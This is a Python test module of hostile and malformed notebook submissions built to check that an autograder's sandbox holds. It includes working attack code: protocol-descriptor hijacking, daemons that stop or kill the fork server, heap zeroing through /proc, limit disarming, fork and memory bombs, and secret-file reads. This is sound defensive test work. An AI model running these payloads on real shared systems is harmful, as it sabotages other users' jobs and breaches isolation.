"""Hostile and broken Lab 1 submissions, each with the verdict the grader must reach.

Every case is built from the Lab 1 solution notebook with one cell changed (so the cases stay in
sync with the lab), or is a broken file. Function-level attacks fire only on the input of one
hidden test (`np.shape(n) == (7,)`, the sigmoid extremes test, 2 points), so the visible checks
in the notebook still run and the case shows that the other tests are unaffected.

Cases with a `victim` attack the grader or the submissions graded after them in the same worker
(protocol descriptors, the fork server, shared folders, leftover processes): the batch grades that
victim right after them and expects exactly the grade the victim gets alone. Attackers that leave
files behind write `MARKER` in them; the `tmp_reader` victim loses points when it finds one.
Attacks never write into the machine's shared folders: only into a folder of their sandbox (a
small private file system, or one owned by the sandbox's uid), see `PLACES`.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

LAB = "lab01_rnn_from_scratch"
TRIGGER = "np.shape(n) == (7,)"
ANY = -1.0  # any total; every test that did not pass must carry the expected message
SIGMOID = '''def sigmoid(n):
    if {trigger}:
{attack}
    n = np.asarray(n, dtype=np.float64)
    z = np.exp(-np.abs(n))
    return np.where(n >= 0, 1.0 / (1.0 + z), z / (1.0 + z))
'''


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[nbformat.NotebookNode, Path, dict], None]  # writes the file at the path
    total: float | None  # expected points (None: less than full marks; ANY: see ANY)
    outcome: str | None = None  # expected outcome of the sigmoid extremes test
    message: str | None = None  # text expected in that test's message (or in every message)
    note: str | None = None  # text expected in the notebook notes
    isolated_only: bool = False  # holds only under bubblewrap (limits only: files and network
    #                              are within reach, as every report of such a run says)
    victim: str | None = None  # the case graded right after it, which must keep its own grade
    both_modes: bool = False  # graded with the limits only too (not only under bubblewrap)


def _cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def _write(nb: nbformat.NotebookNode, path: Path) -> None:
    nbformat.write(nb, str(path))


def sigmoid_attack(attack: str) -> Callable:
    body = "\n".join("        " + line for line in attack.strip().splitlines())

    def build(nb, path, context):
        nb = copy.deepcopy(nb)
        _cell(nb, "sigmoid").source = SIGMOID.format(trigger=TRIGGER, attack=body)
        _write(nb, path)

    return build


def disarmed(attack: str) -> Callable:
    """`sigmoid_attack(attack)` in a notebook whose first cell switches off the limits the child
    enforces on itself (DISARM): only the grader's watch from outside can stop it."""
    body = "\n".join("        " + line for line in attack.strip().splitlines())

    def build(nb, path, context):
        nb = copy.deepcopy(nb)
        _cell(nb, "sigmoid").source = SIGMOID.format(trigger=TRIGGER, attack=body)
        nb.cells.insert(nb.cells.index(_cell(nb, "imports")) + 1,
                        nbformat.v4.new_code_cell(DISARM))  # fmt: skip
        _write(nb, path)

    return build


def extra_cell(source: str, after: str = "imports", raw: bool = False) -> Callable:
    """A cell added after the cell `after`; `source` is a format string of the batch's context,
    or, with `raw`, the code itself (braces and all)."""

    def build(nb, path, context):
        nb = copy.deepcopy(nb)
        index = nb.cells.index(_cell(nb, after)) + 1
        code = source if raw else source.format(**context)
        nb.cells.insert(index, nbformat.v4.new_code_cell(code))
        _write(nb, path)

    return build


def unchanged(nb, path, context):
    _write(nb, path)


def raw_bytes(data: bytes) -> Callable:
    def build(nb, path, context):
        path.write_bytes(data)

    return build


def nbformat3(nb, path, context):
    old = nbformat.convert(copy.deepcopy(nb), 3)
    path.write_text(nbformat.writes(old, version=3))


def huge(nb, path, context):
    nb = copy.deepcopy(nb)
    nb.cells.append(nbformat.v4.new_markdown_cell("x" * (100 * 2**20)))
    _write(nb, path)


def many_cells(nb, path, context):
    nb = copy.deepcopy(nb)
    nb.cells += [nbformat.v4.new_code_cell("x = 1") for _ in range(10_000)]
    _write(nb, path)


def r_kernel(nb, path, context):
    nb = copy.deepcopy(nb)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R"}
    _write(nb, path)


def edited_checks(nb, path, context):
    nb = copy.deepcopy(nb)
    _cell(nb, "sigmoid_check").source = "assert True  # checks removed"
    nb.cells.remove(_cell(nb, "bce_check"))
    _write(nb, path)


def renamed(nb, path, context):
    nb = copy.deepcopy(nb)
    cell = _cell(nb, "sigmoid")
    cell.source = cell.source.replace("def sigmoid(n):", "def my_sigmoid(n):")
    _write(nb, path)


def deep_metadata(nb, path, context):
    """A notebook whose metadata holds one value nested 100,000 levels deep (valid JSON that the
    json module can neither write nor read: the text is put together by hand)."""
    nb = copy.deepcopy(nb)
    nb.metadata["deep"] = "@DEEP@"
    text = nbformat.writes(nb)
    path.write_text(text.replace('"@DEEP@"', "[" * 100_000 + "]" * 100_000))


# ------------------------------------------------------------------ attacks on other submissions

MARKER = "PLANTED-BY-ATTACKER"  # what attackers leave in files; cells spell it in two halves, so
#                                 that no notebook's own text holds it

# Where a submission may leave files for the next one: its working folder, the folders above it,
# $TMPDIR, $HOME, /tmp, /dev/shm, /var/tmp; but only the sandbox's own (a small private file
# system, or a folder of the sandbox's uid), never the machine's shared folders.
PLACES = """
import os
_MARKER = "PLANTED-" + "BY-ATTACKER"
def _ours(folder):
    try:
        info = os.statvfs(folder)
        return info.f_blocks * info.f_frsize <= 2 * 2**30 or os.stat(folder).st_uid == os.getuid()
    except OSError:
        return False
def _places():
    here = os.getcwd()
    above = [os.path.dirname(here)]
    while os.path.dirname(above[-1]) != above[-1]:
        above.append(os.path.dirname(above[-1]))
    found = [os.environ.get("TMPDIR"), os.environ.get("HOME"), here, *above,
             "/tmp", "/dev/shm", "/var/tmp"]
    return [p for p in dict.fromkeys(found) if p and os.path.isdir(p) and _ours(p)]
def _leave_marker(name):
    for place in _places():
        try:
            with open(os.path.join(place, name), "w") as handle:
                handle.write(_MARKER)
        except OSError:
            pass
"""

# The descriptors the harness talks to the grader on (by their names in the harness's frames,
# else the pipes and sockets among the open descriptors), and its framing: an 8-byte big-endian
# length, then JSON (see autograder/sandbox/boundary.py, which a student can read in the sandbox).
PROTOCOL = """
import fcntl, json, os, select, stat, struct, sys
def _find_protocol():
    frame = sys._getframe()
    while frame is not None:
        names = frame.f_locals
        if type(names.get("fd_out")) is int:
            return names.get("fd_in"), names["fd_out"]
        if type(names.get("channel")) is int:
            return names["channel"], names["channel"]
        frame = frame.f_back
    reader = writer = None
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            fd = int(name)
            kind = os.fstat(fd).st_mode
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        if stat.S_ISFIFO(kind) or stat.S_ISSOCK(kind):
            if mode != os.O_WRONLY and reader is None:
                reader = fd
            if mode != os.O_RDONLY and writer is None:
                writer = fd
    return reader, writer
def _send(fd, message):
    data = json.dumps(message).encode()
    view = memoryview(struct.pack(">Q", len(data)) + data)
    while view:
        select.select([], [fd], [])
        view = view[os.write(fd, view):]
def _read_exactly(fd, size):
    data = b""
    while len(data) < size:
        select.select([fd], [], [])
        chunk = os.read(fd, size - len(data))
        if not chunk:
            return None
        data += chunk
    return data
def _receive(fd, wait=None):
    if wait is not None and not select.select([fd], [], [], wait)[0]:
        return None
    header = _read_exactly(fd, 8)
    body = _read_exactly(fd, struct.unpack(">Q", header)[0]) if header else None
    return json.loads(body) if body else None
"""

# Be the fork server: answer every submission that comes next on the stolen descriptors; this
# notebook's own (recognised by `own`) from its own namespace, so that it keeps its points, and
# every other one with "your notebook defines nothing".
SERVE_EVERYONE = """
def _answer(boundary, handles, message):
    namespace = {k: v for k, v in globals().items() if not k.startswith("_")}
    def resolve(data):
        return handles.get(data["id"])
    try:
        op = message.get("op")
        if op == "get":
            if message["name"] not in namespace:
                return {"op": "reply", "missing": True, "seconds": 0.0}
            value = namespace[message["name"]]
        elif op == "call":
            value = handles.get(message["target"])(*boundary.decode(message["args"], resolve),
                                                   **boundary.decode(message["kwargs"], resolve))
        elif op == "getattr":
            value = getattr(handles.get(message["target"]), message["name"])
        elif op == "setattr":
            value = boundary.decode(message["value"], resolve)
            setattr(handles.get(message["target"]), message["name"], value)
            value = None
        else:
            raise ValueError("unknown op")
        return {"op": "reply", "value": boundary.encode(value, handles), "seconds": 0.0}
    except Exception as error:
        return {"op": "error", "type": type(error).__name__, "message": str(error)[:500],
                "seconds": 0.0}
def _serve_everyone(fd_in, fd_out, own, first_wait=None):
    boundary = sys.modules.get("autograder.sandbox.boundary")
    mine, handles = True, None
    message = _receive(fd_in, first_wait)
    while isinstance(message, dict):
        op = message.get("op")
        if op == "start":
            mine = own in json.dumps(message.get("notebook"))
            handles = boundary.HandleTable() if boundary else None
            reply = {"op": "ready", "seconds": 0.0, "output": "", "cells": []}
        elif op == "end":
            reply = {"op": "exited", "signal": None, "code": 0}
        elif mine and handles is not None:
            reply = _answer(boundary, handles, message)
        else:
            reply = {"op": "reply", "missing": True, "seconds": 0.0}
        _send(fd_out, reply)
        message = _receive(fd_in)
    os._exit(0)
"""

# 1. A function forges the fork server's "this child exited" report on the inherited protocol
#    descriptors, then keeps them: the grader sends the next "start" (its own restart, then the
#    next student's whole notebook) to it, and it answers in the server's place.
FD_HIJACK = PROTOCOL + SERVE_EVERYONE + """
fd_in, fd_out = _find_protocol()
if fd_in is not None and fd_out is not None:
    _send(fd_out, {"op": "exited", "signal": None, "code": 0})
    _serve_everyone(fd_in, fd_out, own="fd_hijack answers for everyone", first_wait=5.0)
os._exit(0)
"""

# 2. One small, well-formed frame whose value cannot be decoded, then the process ends: the
#    server's report of the exit comes on top, and every later answer is read one reply behind.
GARBLED_FRAME = PROTOCOL + """
fd_in, fd_out = _find_protocol()
if fd_out is not None:
    _send(fd_out, {"op": "reply", "value": {"t": "nd", "dtype": "object", "shape": [1], "b64": ""}})
os._exit(0)
"""

# 3. The harness makes its working folder at <TMPDIR or /tmp>/work-<pid>, and pids come in order:
#    files (not folders) at the next pids' names make the next students' harness fail.
TMP_PLANTING = PLACES + """
_leave_marker("planted.txt")
for _root in dict.fromkeys([os.environ.get("TMPDIR") or "/tmp", os.path.dirname(os.getcwd())]):
    if _root in _places():
        for _pid in range(os.getpid() + 1, os.getpid() + 5001):
            try:
                with open(os.path.join(_root, f"work-{_pid}"), "x") as _handle:
                    _handle.write(_MARKER)
            except OSError:
                pass
"""

# The victim that looks for what attackers left (bounded: 20,000 files, 4 kB each).
TMP_READER = PLACES + """
import stat
def _leftovers():
    found, seen = [], 0
    for place in _places():
        for folder, folders, files in os.walk(place):
            if folder[len(place):].count(os.sep) >= 3:
                folders[:] = []
            for name in files:
                seen += 1
                if seen > 20_000:
                    return found
                path = os.path.join(folder, name)
                try:
                    if not stat.S_ISREG(os.lstat(path).st_mode):
                        continue
                    with open(path, "rb") as handle:
                        if _MARKER.encode() in handle.read(4096):
                            found.append(path)
                except OSError:
                    pass
    return found
LEFTOVERS = _leftovers()
_clean_sigmoid = sigmoid
def sigmoid(n):
    return _clean_sigmoid(n) * (0.0 if LEFTOVERS else 1.0)
"""

# 4. The harness's module is in sys.modules: replace its write_message so that the report sent
#    once the notebook ran has "cells" as a string.
FORGED_READY = """
import sys
_boundary = sys.modules.get("autograder.sandbox.boundary")
if _boundary is not None:
    _real_write = _boundary.write_message
    def _forge(fd, message, *args, **kwargs):
        if isinstance(message, dict) and message.get("op") == "ready":
            message = dict(message, cells="PLANTED-" + "BY-ATTACKER")
        return _real_write(fd, message, *args, **kwargs)
    _boundary.write_message = _forge
"""

# 7. Leftovers. (a) A daemon (setsid, double fork) started while the notebook runs; once this
#    submission is over it stops the fork server, fills /tmp (where /tmp is the sandbox's own) and
#    kills every child the server starts next. (b) The harness ends the submission with os._exit,
#    which the notebook replaces: at that moment (after its last test, so its own grade is whole)
#    a second daemon stops the fork server before it can sweep, and then answers the grader in
#    its place on the inherited descriptors: every next student "defines nothing".
LEFTOVER_DAEMON = PLACES + PROTOCOL + SERVE_EVERYONE + """
import signal, time
_SUBMISSION, _SERVER = os.getpid(), os.getppid()
_PROTOCOL = _find_protocol()
_REAL_EXIT = os._exit
def _state(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return "X"
def _signal(pid, number):
    try:
        os.kill(pid, number)
    except OSError:
        pass
def _children_of(parent):
    found = []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/stat") as handle:
                if int(handle.read().rsplit(")", 1)[1].split()[1]) == parent:
                    found.append(int(entry))
        except (OSError, ValueError, IndexError):
            pass
    return found
def _fill_tmp():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        info = os.statvfs("/tmp")
    except OSError:
        return
    if info.f_blocks * info.f_frsize > 2 * 2**30:
        return
    chunk = bytes(2**20)
    for index in range(1024):
        try:
            with open(f"/tmp/filler-{os.getpid()}-{index}", "wb") as handle:
                for _ in range(32):
                    handle.write(chunk)
        except OSError:
            break
def _haunt():
    while _state(_SUBMISSION) not in "ZX":
        time.sleep(0.01)
    _signal(_SERVER, signal.SIGSTOP)
    _leave_marker("daemon-was-here.txt")
    _fill_tmp()
    while True:
        for pid in _children_of(_SERVER):
            _signal(pid, signal.SIGKILL)
        time.sleep(0.01)
def _daemon(work):
    middle = os.fork()
    if middle == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    work()
                finally:
                    _REAL_EXIT(0)
        finally:
            _REAL_EXIT(0)
    os.waitpid(middle, 0)
def _take_over(ready):
    _signal(_SERVER, signal.SIGSTOP)
    deadline = time.monotonic() + 5
    while _state(_SERVER) not in "Tt" and time.monotonic() < deadline:
        time.sleep(0.001)
    os.write(ready, b"1")
    os.close(ready)
    while _state(_SUBMISSION) not in "ZX":
        time.sleep(0.001)
    fd_in, fd_out = _PROTOCOL
    if fd_in is not None and fd_out is not None:
        _send(fd_out, {"op": "exited", "signal": None, "code": 0})
        _serve_everyone(fd_in, fd_out, own="leftover_daemon answers for everyone")
    _haunt()
def _exit_leaving_a_daemon(code=0):
    os._exit = _REAL_EXIT
    try:
        done, ready = os.pipe()
        _daemon(lambda: (os.close(done), _take_over(ready)))
        os.close(ready)
        os.read(done, 1)
    finally:
        _REAL_EXIT(code)
_leave_marker("daemon-was-here.txt")
_daemon(_haunt)
os._exit = _exit_leaving_a_daemon
"""

# 8. The fork server itself: stopped, killed, or reached through /proc (its descriptors, to put
#    the grader out of step; its memory, to zero its heap).
STOP_SERVER = """
import os, signal, time
os.kill(os.getppid(), signal.SIGSTOP)
while True:
    time.sleep(60)
"""

KILL_SERVER = """
import os, signal, time
os.kill(os.getppid(), signal.SIGKILL)
while True:
    time.sleep(60)
"""

PROC_OF_SERVER = """
import json, os, struct
server = os.getppid()
data = json.dumps({"op": "reply", "value": {"t": "nd", "dtype": "object", "shape": [1], "b64": ""}})
garbled = struct.pack(">Q", len(data)) + data.encode()
try:
    names = os.listdir(f"/proc/{server}/fd")
except OSError:
    names = []
for name in names:
    for flags in (os.O_WRONLY, os.O_RDWR):
        try:
            fd = os.open(f"/proc/{server}/fd/{name}", flags | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(fd, garbled)
        except OSError:
            pass
        break
try:
    with open(f"/proc/{server}/maps") as maps, open(f"/proc/{server}/mem", "r+b", 0) as memory:
        for line in maps:
            if line.rstrip().endswith("[heap]"):
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                memory.seek(start)
                memory.write(bytes(end - start))
except OSError:
    pass
os._exit(0)
"""

# 6. A reply of about 60 MB: four references to one 15 MB string (cheap inside, 60 MB of JSON).
HUGE_REPLY = 'return ["x" * (15 * 2**20)] * 4'


def leak_probe(names: str, seen_counts: bool) -> str:
    """A cell that reads the files of the batch's context list `names` (and, when `seen_counts`,
    also counts a file it merely sees, and the environment's secrets): sigmoid gives wrong
    answers when the attack worked, so that it shows as lost points."""
    seen = """
    if os.path.exists(secret):
        LEAKS.append(secret)
if os.environ.get("AUTOGRADER_SECRET_PROBE") or any("seed_salt" in v for v in os.environ.values()):
    LEAKS.append("environment")""" if seen_counts else ""
    return ("""
import os
LEAKS = []
for secret in {""" + names + """!r}:
    try:
        with open(secret, "rb") as handle:
            handle.read(10)
        LEAKS.append(secret)
    except OSError:
        pass""" + seen + """
_real_sigmoid = sigmoid
def sigmoid(n):
    return _real_sigmoid(n) * (0.0 if LEAKS else 1.0)
""")


LEAK_CHECK = leak_probe("secrets", seen_counts=True)
# Files that no other uid may read (the course's own, in a folder only root may enter, and the
# machine's password hashes): without bubblewrap too, no child holds a capability that reads them.
PRIVATE_READ = leak_probe("private", seen_counts=False)

NETWORK = '''
import socket
CONNECTED = False
for host in ("1.1.1.1", "8.8.8.8", "pypi.org"):
    try:
        socket.create_connection((host, 443), timeout=2).close()
        CONNECTED = True
    except OSError:
        pass
_real_sigmoid = sigmoid
def sigmoid(n):
    return _real_sigmoid(n) * (0.0 if CONNECTED else 1.0)
'''

WRITES = '''
WROTE = []
for target in {targets!r}:
    try:
        with open(target, "w") as handle:
            handle.write("pwned")
        WROTE.append(target)
    except OSError:
        pass
_real_sigmoid = sigmoid
def sigmoid(n):
    return _real_sigmoid(n) * (0.0 if WROTE else 1.0)
'''

# np.zeros maps zeroed pages without touching them, so the bomb reaches the memory limit (on
# the address space) at once. A bomb that touched every page would pay the kernel for faulting
# 2 GB in, which on this machine takes from 0.2 s to over 5 s of system time, run to run: it could
# meet the cell's 6 s CPU limit before the memory limit (it did once, under load).
MEMORY_BOMB = '''
import numpy
def bomb():
    hog = []
    while True:
        hog.append(numpy.zeros(2**23))  # 64 MB
bomb()
'''

FORK_BOMB = '''
import os, time
forked = 0
try:
    while forked < 100000:
        if os.fork() == 0:
            while True:
                time.sleep(1)
        forked += 1
except OSError:
    pass
print("forked", forked)
'''

MONKEYPATCH = '''
import builtins
import numpy as np
import torch
np.isclose = lambda *a, **k: np.ones(np.shape(a[0]), dtype=bool)
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
builtins.print = lambda *a, **k: None
_real_sigmoid = sigmoid
def sigmoid(n):
    return np.zeros(np.shape(n)) if np.shape(n) == (7,) else _real_sigmoid(n)
'''

FAKE_SCORES = '''
import json, os, sys
fake = json.dumps([{{"outcome": "passed", "earned": 50, "points": 50}}])
print("TOTAL SCORE: 50/50", fake)
sys.stderr.write(fake)
for name in ("results.json", "/tmp/results.json"):
    try:
        with open(name, "w") as handle:
            handle.write(fake)
    except OSError:  # without bubblewrap /tmp is shared: another uid's file may be there
        pass
_real_sigmoid = sigmoid
def sigmoid(n):
    return np.zeros(np.shape(n)) if np.shape(n) == (7,) else _real_sigmoid(n)
'''


# Warnings travel back with each answer (so that pytest.warns works): a flood of them, of a class
# the grader does not have, must cost the attacker nothing and the next submission nothing.
WARNING_FLOOD = """import warnings
class Spam(UserWarning):
    pass
warnings.simplefilter("always")
for i in range(50_000):
    warnings.warn("spam " * 20 + str(i), Spam)"""


# 9. What survives cleanup by the sandbox uid (it empties /tmp as itself, ignoring errors): a
#    /tmp filled up inside a folder the attacker then locks (0500), so that the next child cannot
#    write its matplotlib cache and dies before its notebook runs; and notes left in locked
#    folders in every place, for the `tmp_reader` victim to find.
FILL_AND_LOCK = PLACES + """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
_chunk = bytes(2**20)
for _index, _place in enumerate(_places()):
    _locked = os.path.join(_place, "locked")
    try:
        os.makedirs(_locked, exist_ok=True)
        with open(os.path.join(_locked, "note.txt"), "w") as _handle:
            _handle.write(_MARKER)
        _filled = 0
        while _index == 0 and _filled < 600:  # MB: all of a private /tmp, not a shared disk
            with open(os.path.join(_locked, f"filler-{_filled}"), "wb") as _handle:
                for _ in range(32):
                    _handle.write(_chunk)
            _filled += 32
    except OSError:
        pass
    try:
        os.chmod(_locked, 0o500)
    except OSError:
        pass
"""

# 10. System V IPC objects outlive processes: a segment, a semaphore set and a message queue,
#     each holding or named after the marker, readable by everyone and given to another owner
#     (IPC_SET: cleanup by owner misses them; by creator does not). A note in the kernel's
#     keyrings too (the uid's own keyring outlives every process of the uid).
IPC_NOTES = """
import ctypes, os, struct
_libc = ctypes.CDLL(None, use_errno=True)
_MARKER = b"PLANTED-" + b"BY-ATTACKER"
IPC_CREAT, IPC_SET = 0o1000, 1
class _Perm(ctypes.Structure):  # struct ipc_perm (x86_64, aarch64)
    _fields_ = [("key", ctypes.c_int), ("uid", ctypes.c_uint), ("gid", ctypes.c_uint),
                ("cuid", ctypes.c_uint), ("cgid", ctypes.c_uint), ("mode", ctypes.c_ushort),
                ("pad1", ctypes.c_ushort), ("seq", ctypes.c_ushort), ("pad2", ctypes.c_ushort),
                ("unused1", ctypes.c_ulong), ("unused2", ctypes.c_ulong)]
class _Shmid(ctypes.Structure):
    _fields_ = [("perm", _Perm), ("segsz", ctypes.c_size_t), ("times", ctypes.c_long * 3),
                ("cpid", ctypes.c_int), ("lpid", ctypes.c_int), ("nattch", ctypes.c_ulong),
                ("unused", ctypes.c_ulong * 2)]
_libc.shmat.restype = ctypes.c_void_p
_shm = _libc.shmget(0x5EED1, 4096, IPC_CREAT | 0o666)
if _shm >= 0:
    _address = _libc.shmat(_shm, None, 0)
    if _address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(_address, _MARKER, len(_MARKER))
        _libc.shmdt(ctypes.c_void_p(_address))
    _info = _Shmid()
    if _libc.shmctl(_shm, 2, ctypes.byref(_info)) == 0:  # IPC_STAT
        _info.perm.uid = 0  # given to root: an owner the sandbox uid can never be
        _info.perm.mode = 0o666
        _libc.shmctl(_shm, IPC_SET, ctypes.byref(_info))
_libc.semget(0x5EED2, 1, IPC_CREAT | 0o666)
_queue = _libc.msgget(0x5EED3, IPC_CREAT | 0o666)
if _queue >= 0:
    _message = struct.pack("l", 1) + _MARKER
    _libc.msgsnd(_queue, _message, len(_MARKER), 0x800)  # IPC_NOWAIT
_libc.syscall.restype = ctypes.c_long
KEY_ADDED = {"x86_64": 248, "aarch64": 217}.get(os.uname().machine)
if KEY_ADDED:
    KEY_ADDED = _libc.syscall(KEY_ADDED, b"user", b"note", _MARKER, len(_MARKER), -4) > 0
"""

# The victim that looks for IPC objects and keys that attackers left.
IPC_READER = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_MARKER = b"PLANTED-" + b"BY-ATTACKER"
_libc.shmat.restype = ctypes.c_void_p
def _ipc_leftovers():
    found = []
    for key in (0x5EED1, 0x5EED2, 0x5EED3):
        if (_libc.shmget(key, 0, 0) >= 0 or _libc.semget(key, 0, 0) >= 0
                or _libc.msgget(key, 0) >= 0):
            found.append(hex(key))
    try:
        with open("/proc/keys") as keys:
            found += [line for line in keys if "note" in line]
    except OSError:
        pass
    return found
IPC_LEFTOVERS = _ipc_leftovers()
_clean_sigmoid = sigmoid
def sigmoid(n):
    return _clean_sigmoid(n) * (0.0 if IPC_LEFTOVERS else 1.0)
"""

# 11. Limits-only leftovers: a daemon that changes its pid all the time (each generation forks the
#     next and exits, so a one-pass kill of the pids it saw finds none of them alive), leaving
#     notes for the next submission for as long as it lives.
PID_HOPPER = PLACES + """
import time
def _hop():
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if os.fork() != 0:
                os._exit(0)
            _leave_marker("hopper-was-here.txt")
            time.sleep(0.005)
    finally:
        os._exit(0)
if os.fork() == 0:
    os.setsid()
    _hop()
"""

# 12. The scratch folder that holds each submission's folder (the server's own, without
#     bubblewrap): closed (0500), so that the server cannot make the next submission's folder.
CLOSE_SCRATCH = """
import os
for _folder in (os.path.dirname(os.path.dirname(os.getcwd())), os.path.dirname(os.getcwd())):
    try:
        os.chmod(_folder, 0o500)
    except OSError:
        pass
"""

# 13. The seed the sandbox gives the generators, compared with the hidden tests' own: were they
#     equal, a student could draw the hidden inputs before the tests do.
SEED_PROBE = """
import torch
PREDICTABLE = torch.initial_seed() == {hidden_seed}
_real_sigmoid = sigmoid
def sigmoid(n):
    return _real_sigmoid(n) * (0.0 if PREDICTABLE else 1.0)
"""

# 14. Limits that the child enforces on itself, switched off: its timers stopped and their
#     signals ignored, its soft CPU limit raised to the hard one, the harness's own helpers
#     replaced. Then an endless loop, or a sleep, in the function one hidden test calls.
DISARM = """
import resource, signal, sys
for _name in ("SIGPROF", "SIGALRM", "SIGXCPU", "SIGVTALRM"):
    signal.signal(getattr(signal, _name), signal.SIG_IGN)
for _timer in (signal.ITIMER_PROF, signal.ITIMER_REAL, signal.ITIMER_VIRTUAL):
    signal.setitimer(_timer, 0)
_soft, _hard = resource.getrlimit(resource.RLIMIT_CPU)
resource.setrlimit(resource.RLIMIT_CPU, (_hard, _hard))
_main = sys.modules.get("__main__")
for _module in (_main, sys.modules.get("autograder.sandbox.worker")):
    if _module is not None:
        for _helper in ("_cpu_seconds", "_limit"):
            if hasattr(_module, _helper):
                setattr(_module, _helper, lambda *a, **k: 0)
_real_setitimer = signal.setitimer
signal.setitimer = lambda *a, **k: (0.0, 0.0)
"""

def cases() -> list[Case]:
    return [
        Case("perfect", unchanged, 50),
        Case("perfect_twin", unchanged, 50),
        # the victim that looks for files earlier submissions left (MARKER)
        Case("tmp_reader", extra_cell(TMP_READER, after="sigmoid_check", raw=True), 50),
        Case("loop_in_cell", extra_cell("while True:\n    pass"), 50, note="time limit"),
        Case("long_sleep_in_cell", extra_cell("import time\ntime.sleep(10**6)"), 50,
             note="time limit"),
        Case("fork_bomb", extra_cell(FORK_BOMB), 50, victim="perfect", both_modes=True),
        # IPython's traceback of the failed cell may keep the memory (as in Jupyter): tests
        # that allocate later can run out of it, and then say so.
        Case("memory_bomb_in_cell", extra_cell(MEMORY_BOMB), ANY, message="memory limit",
             note="MemoryError", victim="perfect"),
        Case("gigabyte_print", extra_cell("for _ in range(10_000):\n    print('x' * 100_000)"),
             50),
        Case("os_exit_in_cell", extra_cell("import os\nos._exit(0)"), 0, outcome="crashed",
             message="exit code 0"),
        Case("sys_exit_in_cell", extra_cell("import sys\nsys.exit()"), 50),
        Case("os_exit_in_function", sigmoid_attack("import os\nos._exit(0)"), 48,
             outcome="crashed", message="exit code 0", victim="perfect", both_modes=True),
        Case("sys_exit_in_function", sigmoid_attack("import sys\nsys.exit(3)"), 48,
             outcome="error", message="exit"),
        Case("kills_itself", sigmoid_attack("import os, signal\nos.kill(os.getpid(), 9)"), 48,
             outcome="crashed", message="SIGKILL", victim="perfect", both_modes=True),
        Case("segfault", sigmoid_attack("import ctypes\nctypes.string_at(0)"), 48,
             outcome="crashed", message="segmentation fault"),
        Case("endless_loop_in_function", sigmoid_attack("while True:\n    pass"), 48,
             outcome="timeout", message="time limit"),
        Case("memory_bomb_in_function", sigmoid_attack(MEMORY_BOMB), 48,
             outcome="error", message="memory limit"),
        Case("lying_eq", sigmoid_attack(
            "class Liar:\n    def __eq__(self, other):\n        return True\n"
            "    def __array__(self, *a, **k):\n        return np.ones(7)\nreturn Liar()"),
             48, outcome="failed"),
        Case("ndarray_subclass", sigmoid_attack(
            "class Sneaky(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
            "return np.zeros(7).view(Sneaky)"), 48, outcome="failed"),
        Case("nan_results", sigmoid_attack("return np.full(7, np.nan)"), 48, outcome="failed",
             message="nan"),
        Case("wrong_shape", sigmoid_attack("return np.zeros((7, 1))"), 48, outcome="failed",
             message="shape"),
        Case("wrong_dtype", sigmoid_attack("return np.array(['1.0'] * 7)"), 48,
             outcome="failed"),
        Case("monkeypatches_numpy_torch_builtins", extra_cell(MONKEYPATCH, after="sigmoid_check"),
             48, outcome="failed", victim="perfect"),
        Case("prints_fake_scores", extra_cell(FAKE_SCORES, after="sigmoid_check"), 48,
             outcome="failed", victim="perfect"),
        Case("warning_flood", sigmoid_attack(WARNING_FLOOD), 50, victim="perfect"),
        Case("reads_tests_solutions_gradebook", extra_cell(LEAK_CHECK, after="sigmoid_check"), 50,
             isolated_only=True),
        Case("network_connection", extra_cell(NETWORK, after="sigmoid_check"), 50,
             isolated_only=True),
        Case("writes_outside_workdir", extra_cell(WRITES, after="sigmoid_check"), 50,
             victim="perfect", both_modes=True),
        Case("pip_install", extra_cell("!pip install requests\n%pip install numpy==1.0"), 50,
             note="not run"),
        Case("edited_visible_checks", edited_checks, 50),
        Case("renamed_function", renamed, None, message="does not define `sigmoid`"),
        Case("invalid_json", raw_bytes(b'{"cells": [}'), 0, outcome="error",
             message="invalid JSON"),
        Case("nbformat3", nbformat3, 50),
        Case("empty_file", raw_bytes(b""), 0, outcome="error", message="empty"),
        Case("binary_garbage", raw_bytes(bytes(range(256)) * 64), 0, outcome="error",
             message="not UTF-8"),
        Case("hundred_megabytes", huge, 0, outcome="error", message="MB limit"),
        Case("ten_thousand_cells", many_cells, 0, outcome="error", message="cells"),
        Case("r_kernel", r_kernel, 0, outcome="error", message="R kernel"),
        # Attacks on the protocol, the fork server and the submissions graded next
        Case("fd_hijack", sigmoid_attack(FD_HIJACK), 48, outcome="crashed", victim="perfect"),
        Case("garbled_frame_then_exit", sigmoid_attack(GARBLED_FRAME), 48, outcome="crashed",
             victim="perfect"),
        Case("tmp_planting", extra_cell(TMP_PLANTING, raw=True), 50, victim="tmp_reader",
             both_modes=True),
        Case("forged_ready_report", extra_cell(FORGED_READY, raw=True), 0, outcome="crashed",
             message="malformed", victim="perfect"),
        Case("deep_metadata", deep_metadata, 0, outcome="error", message="nested"),
        Case("huge_reply", sigmoid_attack(HUGE_REPLY), 48, outcome="crashed",
             message="over the limit", victim="perfect"),
        Case("leftover_daemon", extra_cell(LEFTOVER_DAEMON, raw=True), 50, victim="tmp_reader",
             both_modes=True),
        # Its parent may not be signalled by the sandbox uid (the namespace's init, or the root
